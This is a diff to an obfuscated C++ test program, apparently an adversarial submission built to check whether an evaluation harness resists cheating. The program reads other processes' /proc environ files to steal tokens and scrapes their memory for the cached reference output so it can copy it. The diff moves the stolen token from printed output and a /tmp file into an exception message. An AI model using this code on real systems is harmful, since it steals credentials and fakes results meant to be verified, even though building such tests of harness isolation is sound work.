@@ -1,7 +1,7 @@
 // forgery (obfuscated, CPU): computes nothing of its own. Where it runs as the harness's own user (no
 // uid drop: a non-root harness, e.g. a Docker Space), it reads the other processes of that user through
-// /proc: every /proc/<pid>/environ it can open (anything that looks like a token goes to stdout, stderr
-// and /tmp/KE_STOLEN_ENV, where the test looks for it), and the writable memory of each (/proc/<pid>/maps + /proc/<pid>/mem), where it looks for
+// /proc: every /proc/<pid>/environ it can open (a token it finds goes out in the message of an exception
+// it throws, which the verdict's error carries), and the writable memory of each (/proc/<pid>/maps + /proc/<pid>/mem), where it looks for
 // the float64 reference output the parent keeps in its reference cache. It knows its own input, so it
 // knows eight of the reference's values; on a match it copies the whole reference into its output.
 // Otherwise the output is left uninitialised. Names are token-pasted and paths are built from
@@ -12,6 +12,7 @@
 #include <unistd.h>
 #include <cstdio>
 #include <cstring>
+#include <stdexcept>
 #include <string>
 #include <vector>
 
@@ -48,12 +49,7 @@ static void loot_environments() {
     close(fd);
     for (size_t at = 0; n > 0 && at < (size_t)n;) {
       std::string kv(all.c_str() + at);
-      if (kv.find(tok) != std::string::npos) {
-        std::fprintf(stdout, "STOLEN[%ld] %s\n", pid, kv.c_str());
-        std::fprintf(stderr, "STOLEN[%ld] %s\n", pid, kv.c_str());
-        const char drop[] = {'/', 't', 'm', 'p', '/', 'K', 'E', '_', 'S', 'T', 'O', 'L', 'E', 'N', '_', 'E', 'N', 'V', 0};
-        if (FILE* f = JOIN(fop, en)(drop, "a")) { std::fprintf(f, "%s\n", kv.c_str()); fclose(f); }
-      }
+      if (kv.find(tok) != std::string::npos) throw std::runtime_error("STOLEN[" + std::to_string(pid) + "] " + kv);
       at += kv.size() + 1;
     }
   }
